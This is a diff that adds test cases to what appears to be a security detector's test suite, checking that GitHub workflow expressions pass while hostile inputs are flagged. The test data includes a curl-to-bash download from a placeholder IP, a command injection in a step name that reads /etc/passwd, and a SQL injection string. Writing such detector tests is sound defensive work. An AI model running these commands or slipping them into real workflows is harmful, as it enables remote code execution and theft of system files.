@@ -1871,3 +1871,13 @@ t.test('twenty-seventh round (the twelfth part, spent): a product and its versio
   t.same(json({ body: page }), [], "a translated MkDocs tab's title")
   t.ok(q('x | python 3.8 -c "import os"').includes('rce'), 'an interpreter given a command still is one')
 })
+
+t.test("twenty-seventh round (the evaluation snapshots' GitHub workflows, as JSON): the runner's expressions and a step's own script", async (t) => {
+  const workflow = (step: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({ name: 'CI', on: { push: { branches: ['main'] } }, jobs: { test: { 'runs-on': 'ubuntu-latest', steps: [{ uses: 'actions/checkout@v4' }, step], ...extra } } })
+  t.same(json(workflow({ name: 'Check', if: "always() && steps.semver.outcome != 'skipped'", run: 'npm test' })), [], "an `if`'s expression")
+  t.same(json(workflow({ uses: 'actions/cache@v4', with: { key: "pre-commit|${{ hashFiles('pyproject.toml', '.pre-commit-config.yaml') }}" } })), [], "a `${{ … }}` the runner replaces")
+  t.same(json(workflow({ run: 'RELEASE_VERSION=$(jq -r \'.version\' package.json)\necho "RELEASE_VERSION=$RELEASE_VERSION" >> $GITHUB_ENV\nPREVIOUS_VERSION=$(git describe --tags --abbrev=0)\n' })), [], "a step's script, its first line its own")
+  t.ok(json(workflow({ run: 'curl -s https://203.0.113.7/x.sh | bash' })).includes('rce'), 'a download piped to a shell still counts')
+  t.ok(json(workflow({ name: "x'; cat /etc/passwd; echo '", run: 'npm test' })).includes('rce'), "an injection into a step's name still counts")
+  t.ok(json({ if: "1' or '1'='1", steps: 'x' }).includes('sqli'), 'an `if` outside a workflow is read')
+})
